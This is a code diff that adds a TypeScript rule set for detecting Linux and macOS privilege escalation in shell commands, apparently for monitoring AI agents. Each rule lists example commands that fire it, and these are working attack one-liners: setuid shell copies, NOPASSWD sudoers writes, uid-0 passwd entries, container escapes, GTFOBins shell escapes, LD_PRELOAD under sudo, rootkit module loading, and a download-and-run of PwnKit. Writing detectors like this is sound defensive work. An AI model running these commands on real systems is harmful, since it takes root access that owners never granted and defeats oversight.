@@ -1,5 +1,286 @@
-import { ruleAnalyzer, type Rule } from '../rule.js';
+import { ruleAnalyzer, hasArg, operands, type AnalysisInput, type Rule } from '../rule.js';
+import type { SimpleCommand } from '../shell/types.js';
+import { isInterpreter, isShell, isShellWord, isStagingPath } from './command_and_control.js';
+import { writes, type Written } from './persistence.js';
 
-export const RULES: readonly Rule[] = [];
+/** Binaries that hand out a shell when they run setuid or under sudo (GTFOBins). */
+const GTFO = new Set(['find', 'vim', 'vi', 'nvim', 'view', 'less', 'more', 'awk', 'gawk', 'mawk', 'nawk', 'env', 'cp', 'mv', 'tar', 'zip', 'nmap', 'expect', 'gdb', 'strace', 'tee', 'dd', 'socat', 'nc', 'busybox', 'rsync', 'git', 'man', 'ed', 'sed', 'flock', 'nice', 'timeout', 'stdbuf', 'xargs', 'script', 'taskset', 'ionice', 'chroot', 'docker', 'pip', 'apt-get', 'make', 'ssh', 'openssl', 'base64', 'install']);
+const base = (p: string) => p.slice(p.lastIndexOf('/') + 1);
+/** A chmod/install mode that sets the setuid bit (`u+s`, `+s`, `4755`, `6755`); setgid alone is common on shared directories. */
+const setuid = (m: string) => /^[ua]*\+[rwxXt]*s[rwxXt]*$/.test(m) || /^0?[46][0-7]{3}$/.test(m);
+const setgid = (m: string) => /^g\+[rwxXt]*s[rwxXt]*$/.test(m) || /^0?2[0-7]{3}$/.test(m);
+const shellLike = (p: string) => isShell(base(p)) || isInterpreter(base(p)) || GTFO.has(base(p));
+
+function suidTargets(c: SimpleCommand): { mode: string; targets: string[] } | undefined {
+  if (c.name === 'chmod') {
+    const ops = operands(c);
+    const mode = ops[0] ?? '';
+    return setuid(mode) || setgid(mode) ? { mode, targets: ops.slice(1) } : undefined;
+  }
+  if (c.name === 'install') {
+    const i = c.argv.findIndex((w) => w === '-m' || w === '--mode' || w.startsWith('--mode='));
+    const mode = i < 0 ? '' : c.argv[i]!.startsWith('--mode=') ? c.argv[i]!.slice(7) : c.argv[i + 1] ?? '';
+    return setuid(mode) ? { mode, targets: operands(c).filter((w) => w !== mode) } : undefined;
+  }
+  return undefined;
+}
+/** Files the line copied a shell or interpreter to (`cp /bin/bash /tmp/.rootsh`). */
+function shellCopies(i: AnalysisInput): Set<string> {
+  const out = new Set<string>();
+  for (const c of i.view?.commands ?? []) if (c.name === 'cp' || c.name === 'install') { const ops = operands(c); if (ops.length === 2 && shellLike(ops[0]!)) out.add(ops[1]!); }
+  return out;
+}
+
+/** Text written to the sudoers policy that removes the password or the environment reset. */
+const SUDO_OPEN = /NOPASSWD:\s*ALL|NOPASSWD:\s*\/bin\/(ba)?sh|!env_reset|!authenticate|timestamp_timeout=-1|env_keep\s*\+?=\s*"?LD_/i;
+const sudoersWrites = (i: AnalysisInput) => writes(i).filter((w) => w.sensitive?.kind === 'sudoers' || /^\/etc\/sudoers(\.d\/|$)/.test(w.canonical));
+const evid = (ws: Written[]) => ws.map((w) => `${w.cmd?.name ?? 'write'} ${w.path}: ${w.text.slice(0, 80)}`);
+
+/** Words of the original command text before the command itself: sudo's own flags (`-u#-1`, `-S`), which the view drops. */
+function sudoFlags(c: SimpleCommand): string[] {
+  if (!c.elevated) return [];
+  const w = c.text.slice(0, 300).split(/\s+/);
+  const at = w.findIndex((x) => x === c.argv[0] || x.endsWith('/' + c.name));
+  return w.slice(0, at < 0 ? w.length : at);
+}
+/** The command that spawned each nested command (`find -exec sh`, `awk 'BEGIN{system("sh")}'`). */
+function parents(i: AnalysisInput): Map<SimpleCommand, SimpleCommand> {
+  const out = new Map<SimpleCommand, SimpleCommand>();
+  const stack: SimpleCommand[] = [];
+  for (const c of i.view?.commands ?? []) {
+    while (stack.length && stack[stack.length - 1]!.depth >= c.depth) stack.pop();
+    if (stack.length) out.set(c, stack[stack.length - 1]!);
+    stack.push(c);
+  }
+  return out;
+}
+const interactiveShell = (c: SimpleCommand) => isShell(c.name) && !c.argv.includes('-c') && operands(c).length === 0;
+
+export const RULES: readonly Rule[] = [
+  {
+    id: 'PX-PRIV-001', name: 'setuid-shell-or-interpreter', score: 95, tactic: 'privilege_escalation', technique: 'T1548.001', strong: true,
+    message: 'Makes a shell, interpreter or GTFOBin setuid', why: 'A setuid bash, python or find (or a copy of one in /tmp) gives any local user a root shell.',
+    check: (i) => {
+      const copies = shellCopies(i);
+      const out: string[] = [];
+      for (const c of i.view?.commands ?? []) {
+        const s = suidTargets(c);
+        if (s && s.targets.some((t) => shellLike(t) && t.includes('/') || copies.has(t) || (setuid(s.mode) && isStagingPath(t)))) out.push(c.argv.join(' '));
+      }
+      return out;
+    },
+    examples: { fire: ['sudo chmod u+s /bin/bash', 'sudo chmod 4755 /bin/sh', 'sudo cp /bin/bash /tmp/.rootsh && sudo chmod +s /tmp/.rootsh', 'sudo install -m 4755 -o root /usr/bin/python3 /var/tmp/.py', 'sudo \\c\\h\\m\\o\\d u+s /usr/bin/find'], quiet: ['chmod +x scripts/*.sh', 'chmod 755 /usr/local/bin/tool', 'chmod 1777 /tmp/shared', 'chmod 2775 /srv/shared'] },
+  },
+  {
+    id: 'PX-PRIV-002', name: 'sets-setuid-bit', score: 70, tactic: 'privilege_escalation', technique: 'T1548.001',
+    message: 'Sets the setuid bit on a file', why: 'A setuid binary runs as its owner (usually root) for whoever starts it; a new one is a privilege-escalation path.',
+    commands: ['chmod', 'install'],
+    test: (c) => {
+      const s = suidTargets(c);
+      return s && setuid(s.mode) && !s.targets.some((t) => shellLike(t) && t.includes('/') || isStagingPath(t)) ? c.argv.join(' ') : undefined;
+    },
+    examples: { fire: ['sudo chown root:root ./x && sudo chmod 6755 ./x', 'chmod u+s ./helper', 'sudo chmod 4755 /usr/local/bin/mytool'], quiet: ['chmod 755 ./helper', 'chmod u+x ./helper', 'chmod g+s /srv/shared'] },
+  },
+  {
+    id: 'PX-PRIV-003', name: 'grants-dangerous-capability', score: 90, tactic: 'privilege_escalation', technique: 'T1548', strong: true,
+    message: 'Grants a root-equivalent Linux capability to a binary', why: 'cap_setuid, cap_dac_read_search, cap_sys_admin and friends let the binary become root or read any file.',
+    commands: ['setcap'],
+    test: (c) => (c.argv.slice(1).some((w) => w.toLowerCase().split(/[,+=]/).some((cap) => ['cap_setuid', 'cap_setgid', 'cap_dac_override', 'cap_dac_read_search', 'cap_sys_admin', 'cap_sys_ptrace', 'cap_sys_module', 'cap_fowner', 'cap_chown', 'cap_sys_rawio', 'all'].includes(cap))) ? c.argv.join(' ') : undefined),
+    examples: { fire: ['sudo setcap cap_setuid+ep /usr/bin/python3', 'sudo setcap cap_setuid,cap_setgid+ep /tmp/.py', 'setcap cap_dac_read_search=eip ./tar'], quiet: ['sudo setcap cap_net_bind_service=+ep $(which node)', 'getcap -r / 2>/dev/null', 'setcap -r ./server'] },
+  },
+  {
+    id: 'PX-PRIV-004', name: 'grants-passwordless-sudo', score: 90, tactic: 'privilege_escalation', technique: 'T1548.003', strong: true,
+    message: 'Writes a sudoers rule that removes the password or environment reset', why: 'NOPASSWD: ALL, !env_reset or an infinite timestamp make root a password-free command away for anyone who gets this account.',
+    check: (i) => evid(sudoersWrites(i).filter((w) => SUDO_OPEN.test(w.text.slice(0, 2000)))),
+    examples: { fire: ['echo "$USER ALL=(ALL) NOPASSWD: ALL" | sudo tee -a /etc/sudoers', "echo 'dev ALL=(ALL:ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers.d/90-dev", "sudo sed -i 's/^%sudo.*/%sudo ALL=(ALL:ALL) NOPASSWD:ALL/' /etc/sudoers", "sudo sh -c \"echo 'ALL ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers\"", "sudo tee -a /etc/sudoers <<'EOF'\ndev ALL=(ALL) NOPASSWD: ALL\nEOF"], quiet: ['sudo visudo -c', 'sudo cat /etc/sudoers', 'grep NOPASSWD docs/setup.md'] },
+  },
+  {
+    id: 'PX-PRIV-005', name: 'writes-sudoers', score: 65, tactic: 'privilege_escalation', technique: 'T1548.003',
+    message: 'Modifies the sudoers policy', why: 'Every sudoers line decides who becomes root; changes should be made by a person, through visudo.',
+    alternative: 'Edit with `sudo visudo -f /etc/sudoers.d/<name>` and review the rule.',
+    check: (i) => evid(sudoersWrites(i).filter((w) => !SUDO_OPEN.test(w.text.slice(0, 2000)))),
+    examples: { fire: ['echo "deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart app" | sudo tee /etc/sudoers.d/deploy', 'sudo cp ./rules /etc/sudoers.d/rules', "sudo sed -i 's/^Defaults.*requiretty/#&/' /etc/sudoers"], quiet: ['sudo visudo -c', 'sudo -l', 'ls /etc/sudoers.d'] },
+  },
+  {
+    id: 'PX-PRIV-006', name: 'adds-root-account-entry', score: 95, tactic: 'privilege_escalation', technique: 'T1136.001', strong: true,
+    message: 'Writes a uid-0 entry into /etc/passwd or opens the account files to everyone', why: 'A passwd line with uid 0 is a second root login; world-writable passwd/shadow/sudoers lets anyone create one.',
+    check: (i) => {
+      const out = writes(i).filter((w) => w.canonical === '/etc/passwd' && /:0:0:|:x:0:/.test(w.text.slice(0, 2000))).map((w) => `${w.path}: ${w.text.slice(0, 80)}`);
+      for (const c of i.view?.commands ?? []) {
+        if (c.name === 'chmod' && /^(0?[0-7][0-7][2367]|[ao]\+[rx]*w[rx]*|o=rw)$/.test(operands(c)[0] ?? '') && operands(c).slice(1).some((p) => ['/etc/passwd', '/etc/shadow', '/etc/sudoers', '/etc/group'].includes(p))) out.push(c.argv.join(' '));
+      }
+      return out;
+    },
+    examples: { fire: ["echo 'r00t:$1$xyz$0.Zv3Q1Ck6OaS6fa2QvG7/:0:0:root:/root:/bin/bash' | sudo tee -a /etc/passwd", "sudo sed -i 's/^dev:x:1000:1000/dev:x:0:0/' /etc/passwd", 'sudo chmod 777 /etc/passwd /etc/shadow', "openssl passwd -1 x | xargs -I{} sh -c 'echo \"toor:{}:0:0::/root:/bin/bash\" >> /etc/passwd'"], quiet: ['cat /etc/passwd', 'getent passwd dev', 'chmod 644 /etc/passwd'] },
+  },
+  {
+    id: 'PX-PRIV-007', name: 'mounts-host-into-container', score: 90, tactic: 'privilege_escalation', technique: 'T1611', strong: true,
+    message: 'Starts a container that can take over the host', why: 'Mounting / into a container, or a privileged container in the host PID namespace, gives root on the host (chroot /host, nsenter -t 1).',
+    check: (i) => {
+      const out: string[] = [];
+      for (const c of i.view?.commands ?? []) {
+        const a = c.argv;
+        if (['docker', 'podman', 'nerdctl'].includes(c.name) && (hasArg(c, 'run', 'create'))) {
+          const mounts = a.flatMap((w, k) => (w === '-v' || w === '--volume' ? [a[k + 1] ?? ''] : w.startsWith('--volume=') ? [w.slice(9)] : w === '--mount' ? [a[k + 1] ?? ''] : []));
+          const hostRoot = mounts.some((m) => /^(\/|\/etc|\/root|\/proc|\/sys|\/boot|\/var\/lib\/kubelet)(:|$)/.test(m) || /source=\/(,|$)/.test(m) || m.startsWith(':'));
+          const privileged = hasArg(c, '--privileged', '--pid=host', '--cap-add=SYS_ADMIN', '--cap-add=ALL');
+          const escape = a.some((w) => w === 'chroot' || w === 'nsenter');
+          if (hostRoot || (privileged && escape)) out.push(a.join(' '));
+        }
+        if (c.name === 'curl' && a.some((w) => w.includes('docker.sock')) && a.some((w) => /"Privileged"\s*:\s*true|"Binds"\s*:\s*\[\s*"\/:/.test(w.slice(0, 4000)))) out.push(a.join(' ').slice(0, 200));
+        if (c.name === 'kubectl' && a.some((w) => /"host(PID|Network)"\s*:\s*true|"privileged"\s*:\s*true/.test(w.slice(0, 4000))) && a.some((w) => /nsenter|chroot|"hostPath"/.test(w.slice(0, 4000)))) out.push(a.join(' ').slice(0, 200));
+      }
+      return out;
+    },
+    examples: { fire: ['docker run --rm -it -v /:/host --privileged alpine chroot /host /bin/bash', 'docker run -v /:/mnt --rm -it alpine chroot /mnt sh', 'docker run --rm --pid=host --privileged -it ubuntu nsenter -t 1 -m -u -i -n -p -- bash', 'm=/;docker run --rm -it -v $m:/host alpine sh'], quiet: ['docker run --rm -v $(pwd):/app -w /app node:20 npm test', 'docker run -v /var/run/docker.sock:/var/run/docker.sock testcontainers/ryuk', 'docker run --rm -it ubuntu bash'] },
+  },
+  {
+    id: 'PX-PRIV-008', name: 'runs-privileged-container', score: 55, tactic: 'privilege_escalation', technique: 'T1611',
+    message: 'Starts a privileged or host-namespace container', why: 'A --privileged or --pid=host container is one command away from root on the host.',
+    commands: ['docker', 'podman', 'nerdctl'],
+    test: (c) => (hasArg(c, 'run', 'create') && hasArg(c, '--privileged', '--pid=host', '--cap-add=SYS_ADMIN', '--cap-add=ALL') && !c.argv.some((w) => w === 'chroot' || w === 'nsenter') ? c.argv.join(' ') : undefined),
+    examples: { fire: ['sudo docker run -it --rm --privileged ubuntu bash', 'docker run --pid=host alpine ps', 'podman run --cap-add=SYS_ADMIN fedora'], quiet: ['docker run --rm -it ubuntu bash', 'docker ps', 'docker run --cap-add=NET_ADMIN alpine ip a'] },
+  },
+  {
+    id: 'PX-PRIV-009', name: 'enters-host-namespaces', score: 90, tactic: 'privilege_escalation', technique: 'T1611', strong: true,
+    message: "Enters init's namespaces with nsenter", why: '`nsenter -t 1 -m …` from a container or with sudo runs a shell in the host\'s namespaces as root.',
+    commands: ['nsenter'],
+    test: (c) => {
+      const a = c.argv;
+      const pid1 = a.some((w, k) => (w === '-t' || w === '--target') && a[k + 1] === '1' || w === '--target=1' || w === '-t1');
+      return pid1 && a.some((w) => w === '-m' || w === '--mount' || w === '-a' || w === '--all' || /^-[a-z]*m/.test(w)) ? a.join(' ') : undefined;
+    },
+    examples: { fire: ['sudo nsenter --target 1 --mount --uts --ipc --net --pid -- /bin/bash', 'nsenter -t 1 -m -u -i -n -p -- sh', 'nsenter -t 1 -a bash'], quiet: ['sudo nsenter -t 4321 -n ip addr', 'lsns', 'nsenter --help'] },
+  },
+  {
+    id: 'PX-PRIV-010', name: 'cgroup-release-agent-escape', score: 90, tactic: 'privilege_escalation', technique: 'T1611', strong: true,
+    message: 'Sets up a cgroup release_agent container escape', why: 'Mounting a cgroup and writing notify_on_release/release_agent makes the host kernel run an attacker script as root.',
+    check: (i) => {
+      const hit = writes(i).find((w) => /\/(release_agent|notify_on_release)$/.test(w.canonical));
+      const mount = i.view?.commands.find((c) => c.name === 'mount' && c.argv.some((w) => w === 'cgroup' || w === 'cgroup2'));
+      return hit && (mount || hit.canonical.endsWith('release_agent')) ? `${mount ? mount.argv.join(' ') + ' … ' : ''}${hit.path}` : undefined;
+    },
+    examples: { fire: ['mkdir /tmp/cg && mount -t cgroup -o rdma cgroup /tmp/cg && mkdir /tmp/cg/x && echo 1 > /tmp/cg/x/notify_on_release', 'echo "$host_path/cmd" > /tmp/cgrp/release_agent', 'mount -t cgroup -o memory cgroup /mnt/c; echo 1 > /mnt/c/x/notify_on_release'], quiet: ['cat /proc/self/cgroup', 'mount | grep cgroup', 'systemd-cgls'] },
+  },
+  {
+    id: 'PX-PRIV-011', name: 'privileged-shell-escape', score: 85, tactic: 'privilege_escalation', technique: 'T1548.003', strong: true,
+    message: 'Escapes to a shell from a sudo or setuid program', why: 'find -exec sh, vim :!sh, awk system("sh"), tar --checkpoint-action, pkexec sh, sudo -u#-1 and setuid(0) one-liners are the standard GTFOBins root shells.',
+    check: (i) => {
+      const out: string[] = [];
+      const parent = parents(i);
+      for (const c of i.view?.commands ?? []) {
+        const p = parent.get(c);
+        if (interactiveShell(c) && p && (p.elevated || hasArg(c, '-p')) && (c.origin === 'exec-arg' || c.origin === 'interpreter')) out.push(`${p.argv.join(' ').slice(0, 100)} → ${c.argv.join(' ')}`);
+        if (interactiveShell(c) && c.origin === 'exec-arg' && hasArg(c, '-p')) out.push(c.argv.join(' '));
+        if (interactiveShell(c) && c.wrappers.includes('pkexec')) out.push(`pkexec ${c.argv.join(' ')}`);
+        if (sudoFlags(c).some((w) => /^-u#(-1|4294967295)$/.test(w) || w === '#-1')) out.push(c.text);
+        if (c.elevated && ['vim', 'vi', 'nvim', 'view', 'ex'].includes(c.name) && c.argv.some((w, k) => (c.argv[k - 1] === '-c' || w.startsWith('+')) && /^[:+]?(!|sh(ell)?\b|py|lua|call system)/.test(w.replace(/^\+/, '')))) out.push(c.argv.join(' '));
+        if (c.elevated && c.name === 'tar' && c.argv.some((w) => w.startsWith('--checkpoint-action=exec') || w === '--to-command' || w.startsWith('--use-compress-program'))) out.push(c.argv.join(' '));
+      }
+      for (const s of i.view?.scripts ?? []) if (/setuid\(0\)|setresuid\(0/.test(s.code.slice(0, 4000)) && /system|exec|spawn|popen/.test(s.code.slice(0, 4000))) out.push(s.code.slice(0, 120));
+      return out;
+    },
+    examples: { fire: ['sudo find / -maxdepth 0 -exec /bin/sh \\;', '/usr/bin/find . -exec /bin/sh -p \\; -quit', "sudo vim -c ':!/bin/sh'", "sudo awk 'BEGIN {system(\"/bin/bash\")}'", 'sudo tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh', 'sudo -u#-1 /bin/bash', 'pkexec /bin/sh', "python3 -c 'import os; os.setuid(0); os.system(\"/bin/sh\")'"], quiet: ['find . -name "*.sh" -exec shellcheck {} \\;', "awk '{print $1}' access.log", 'sudo vim /etc/hosts', 'sudo tar -xzf app.tgz -C /opt'] },
+  },
+  {
+    id: 'PX-PRIV-012', name: 'sudo-with-injected-environment', score: 85, tactic: 'privilege_escalation', technique: 'T1574.006', strong: true,
+    message: 'Runs sudo with LD_PRELOAD or a hijacked search path', why: 'LD_PRELOAD, LD_LIBRARY_PATH or a PATH/PYTHONPATH starting in a writable directory makes the root process load attacker code.',
+    test: (c) => {
+      if (!c.elevated) return undefined;
+      const vars = [...c.assignments.map((a) => `${a.name}=${a.value}`), ...c.argv.filter((w) => /^[A-Z_][A-Z0-9_]*=/.test(w)), ...sudoFlags(c).filter((w) => /^[A-Z_][A-Z0-9_]*=/.test(w))];
+      return vars.find((v) => /^(LD_PRELOAD|LD_LIBRARY_PATH|LD_AUDIT|BASH_ENV|PERL5OPT|PYTHONINSPECT)=/.test(v) || (/^(PATH|PYTHONPATH|PERL5LIB|RUBYLIB|NODE_PATH)=/.test(v) && isStagingPath(v.slice(v.indexOf('=') + 1).split(':')[0] ?? '')));
+    },
+    examples: { fire: ['sudo LD_PRELOAD=/tmp/shell.so find', 'gcc -fPIC -shared -o /tmp/pe.so /tmp/pe.c && sudo LD_PRELOAD=/tmp/pe.so apache2', 'sudo PATH=/tmp/.bin:$PATH /usr/local/bin/backup.sh'], quiet: ['sudo apt-get install -y build-essential', 'sudo PATH=$PATH npm install -g pnpm', 'LD_LIBRARY_PATH=./lib ./app'] },
+  },
+  {
+    id: 'PX-PRIV-013', name: 'opens-root-shell', score: 50, tactic: 'privilege_escalation', technique: 'T1548.003',
+    message: 'Opens an interactive root shell', why: 'An agent holding a root shell can do anything without further prompts; root work should be single, reviewable commands.',
+    alternative: 'Run the specific command with sudo.',
+    test: (c) => {
+      if (c.name === 'sudo') return hasArg(c, '-i', '-s', '-su') ? c.argv.join(' ') : undefined;
+      return c.elevated && c.origin === 'line' && (c.name === 'su' || interactiveShell(c)) && !c.wrappers.includes('pkexec') ? c.text : undefined;
+    },
+    examples: { fire: ['sudo su -', 'sudo -u root -- /bin/bash', 'sudo -i', 'sudo bash'], quiet: ['sudo systemctl restart nginx', 'sudo bash ./install.sh', 'su --help'] },
+  },
+  {
+    id: 'PX-PRIV-014', name: 'pipes-password-to-sudo', score: 70, tactic: 'privilege_escalation', technique: 'T1548.003',
+    message: 'Feeds a password to sudo -S from the command line', why: 'A literal password piped to `sudo -S` ends up in history and logs, and shows an agent bypassing the password prompt.',
+    test: (c) => (sudoFlags(c).some((w) => /^-[a-zA-Z]*S/.test(w)) && (c.pipeFrom?.name === 'echo' || c.pipeFrom?.name === 'printf' || c.redirects.some((r) => r.op === '<<<')) ? c.text : undefined),
+    examples: { fire: ["echo 'P@ssw0rd' | sudo -S bash -c 'id > /tmp/.root'", "printf 'hunter2\\n' | sudo -S apt-get update", "sudo -S whoami <<< 'pw'"], quiet: ['sudo -v', 'sudo apt-get update', 'echo ok | sudo tee /etc/motd'] },
+  },
+  {
+    id: 'PX-PRIV-015', name: 'probes-sudo-rights', score: 50, tactic: 'privilege_escalation', technique: 'T1548.003',
+    message: 'Lists sudo rights or tests for passwordless sudo', why: '`sudo -l` and `sudo -n true` are the first step of a sudo escalation: they show which commands run as root without a password.',
+    test: (c) => {
+      if (c.name === 'sudo') return hasArg(c, '-l', '-ll', '-nl', '-ln') || (hasArg(c, '-n') && hasArg(c, '-v', '-l')) ? c.argv.join(' ') : undefined;
+      return c.elevated && c.name === 'true' && sudoFlags(c).includes('-n') ? c.text : undefined;
+    },
+    examples: { fire: ['sudo -l', 'sudo -n true && echo has-nopasswd-sudo', 'sudo -nl'], quiet: ['sudo -v', 'sudo apt-get update', 'sudo ls /root'] },
+  },
+  {
+    id: 'PX-PRIV-016', name: 'finds-setuid-binaries', score: 55, tactic: 'privilege_escalation', technique: 'T1548.001',
+    message: 'Searches the filesystem for setuid/setgid binaries', why: 'Listing SUID files is how escalation starts: each one is checked against GTFOBins.',
+    commands: ['find'],
+    test: (c) => (c.argv.some((w, k) => c.argv[k - 1] === '-perm' && /^[-/+]?(0?[246]000|u=s|g=s|u\+s|g\+s|-u=s)$/.test(w)) ? c.argv.join(' ') : undefined),
+    examples: { fire: ['find / -perm -4000 -type f 2>/dev/null', 'find / -perm -u=s 2>/dev/null', 'find /usr -perm /6000'], quiet: ['find . -perm 644', 'find . -name "*.ts"', 'find . -perm -u+x -type f'] },
+  },
+  {
+    id: 'PX-PRIV-017', name: 'loads-kernel-module', score: 80, tactic: 'privilege_escalation', technique: 'T1547.006',
+    message: 'Loads a kernel module from a file', why: 'insmod of an arbitrary .ko (rootkits like Diamorphine or Reptile) runs attacker code in the kernel.',
+    check: (i) => {
+      const cmds = i.view?.commands ?? [];
+      const copied = cmds.some((c) => (c.name === 'cp' || c.name === 'mv' || c.name === 'install') && operands(c).some((w) => w.endsWith('.ko')));
+      return cmds.filter((c) => c.name === 'insmod' || (c.name === 'modprobe' && !hasArg(c, '-r', '--remove') && (copied || operands(c).some((w) => w.includes('/'))))).map((c) => c.argv.join(' '));
+    },
+    examples: { fire: ['sudo insmod /tmp/diamorphine.ko', 'sudo cp /tmp/reptile.ko /lib/modules/$(uname -r)/kernel/drivers/ && sudo depmod && sudo modprobe reptile', "sudo $'\\x69\\x6e\\x73\\x6d\\x6f\\x64' /tmp/x.ko"], quiet: ['sudo modprobe br_netfilter', 'lsmod | grep kvm', 'modinfo ext4'] },
+  },
+  {
+    id: 'PX-PRIV-018', name: 'adds-user-to-admin-group', score: 60, tactic: 'privilege_escalation', technique: 'T1098',
+    message: 'Adds a user to sudo, wheel or admin', why: 'Membership in sudo/wheel/admin is root access; an agent granting it changes who controls the machine.',
+    commands: ['usermod', 'gpasswd', 'adduser', 'dseditgroup', 'dscl'],
+    test: (c) => {
+      const admin = (w: string | undefined) => /(^|,)(sudo|wheel|admin|root|adm)(,|$)/.test(w ?? '');
+      const a = c.argv;
+      if (c.name === 'usermod') return a.some((w, k) => /^-a?G$|^--groups$|^-aG$/.test(w) && admin(a[k + 1])) ? a.join(' ') : undefined;
+      if (c.name === 'gpasswd') return (hasArg(c, '-a', '--add', '-M') && admin(a[a.length - 1])) ? a.join(' ') : undefined;
+      if (c.name === 'adduser') return operands(c).length === 2 && admin(operands(c)[1]) ? a.join(' ') : undefined;
+      return a.includes('admin') && (hasArg(c, '-a') || a.includes('GroupMembership')) ? a.join(' ') : undefined;
+    },
+    examples: { fire: ['sudo usermod -aG sudo $(whoami)', 'sudo gpasswd -a dev wheel', 'sudo adduser dev sudo', 'sudo dseditgroup -o edit -a dev -t user admin'], quiet: ['sudo usermod -aG docker $USER', 'groups', 'sudo adduser deploy'] },
+  },
+  {
+    id: 'PX-PRIV-019', name: 'sets-account-password', score: 55, tactic: 'privilege_escalation', technique: 'T1098',
+    message: 'Sets an account password from the command line', why: 'Setting root\'s or another account\'s password non-interactively creates a login the owner does not know.',
+    commands: ['passwd', 'chpasswd'],
+    test: (c) => (c.name === 'chpasswd' || operands(c).includes('root') || hasArg(c, '--stdin') ? c.argv.join(' ') : undefined),
+    examples: { fire: ["echo 'root:toor' | sudo chpasswd", 'sudo passwd root', "echo 'backup-svc:changeme' | sudo chpasswd"], quiet: ['passwd', 'passwd -S dev', 'sudo passwd -l olduser'] },
+  },
+  {
+    id: 'PX-PRIV-020', name: 'runs-local-privesc-exploit', score: 85, tactic: 'privilege_escalation', technique: 'T1068', strong: true,
+    message: 'Builds or runs a known local privilege-escalation exploit', why: 'PwnKit, Dirty Pipe, Dirty COW and CVE-named binaries exist to turn a user shell into root.',
+    check: (i) => {
+      const exploit = (w: string) => /^(pwnkit|cve-?\d{4}-\d{3,}[\w.-]*|dirty_?(pipe|cow|c0w|cred|sock)[\w.-]*|cowroot|dirtypipez?|nimbuspwn|overlayfs[\w-]*exploit|exploit[\w.-]*|polkit[-_]?exploit)$/i.test(base(w));
+      return (i.view?.commands ?? []).filter((c) => exploit(c.argv[0]!) && c.argv[0]!.includes('/') || (c.name === 'gcc' || c.name === 'cc' || c.name === 'clang') && c.argv.some((w, k) => c.argv[k - 1] === '-o' && exploit(w))).map((c) => c.argv.join(' '));
+    },
+    examples: { fire: ['cd /tmp && wget http://45.33.12.7/PwnKit && chmod +x PwnKit && ./PwnKit', 'gcc -o /tmp/cve-2021-4034 /tmp/exploit.c && /tmp/cve-2021-4034', './dirtypipe /usr/bin/sudo'], quiet: ['gcc -o build/app src/main.c', './configure && make', 'grep -r CVE-2021-4034 docs/'] },
+  },
+  {
+    id: 'PX-PRIV-021', name: 'osascript-admin-prompt', score: 70, tactic: 'privilege_escalation', technique: 'T1548.004',
+    message: 'Runs a shell script with macOS administrator privileges via AppleScript', why: '`do shell script … with administrator privileges` shows a system password prompt for whatever the script contains.',
+    commands: ['osascript'],
+    test: (c) => (c.argv.some((w) => /with administrator privileges/i.test(w.slice(0, 4000))) ? c.argv.join(' ') : undefined),
+    examples: { fire: ['osascript -e \'do shell script "chmod u+s /bin/zsh" with administrator privileges\'', 'osascript -e \'do shell script "id" with administrator privileges\'', 'sudo osascript -e \'do shell script "x" with administrator privileges\''], quiet: ['osascript -e \'display notification "done"\'', 'osascript -e \'tell app "Finder" to activate\'', 'osascript script.scpt'] },
+  },
+  {
+    id: 'PX-PRIV-022', name: 'plants-setuid-in-script', score: 85, tactic: 'privilege_escalation', technique: 'T1548.001', strong: true,
+    message: 'Appends a setuid-shell payload to a script', why: 'Adding `cp /bin/bash …; chmod +s …` to a script that root runs (backup, cron) yields a root shell the next time it runs.',
+    check: (i) => writes(i).filter((w) => {
+      if (!w.cmd || w.cmd.name === 'cp' || w.cmd.name === 'mv' || /\.(md|txt|rst|log)$/.test(w.path)) return false;
+      const t = w.text.slice(0, 2000).split(/[\s;&|]+|\\n/);
+      return t.includes('chmod') && t.some((x) => setuid(x)) && (t.some((x) => isShellWord(x) && x.includes('/')) || t.some((x) => isStagingPath(x)));
+    }).map((w) => `${w.path}: ${w.text.slice(0, 100)}`),
+    examples: { fire: ["echo 'cp /bin/bash /tmp/rb; chmod +s /tmp/rb' >> /usr/local/bin/backup.sh", "printf 'chmod u+s /bin/bash\\n' >> /etc/cron.daily/logrotate", "echo 'chmod 4755 /bin/sh' | sudo tee -a /opt/app/run.sh"], quiet: ["echo 'chmod +x build.sh' >> setup.sh", "echo 'chmod u+s is dangerous' >> notes.md", 'chmod +x backup.sh'] },
+  },
+];
 
 export const privilegeEscalation = ruleAnalyzer('privilege_escalation', RULES);
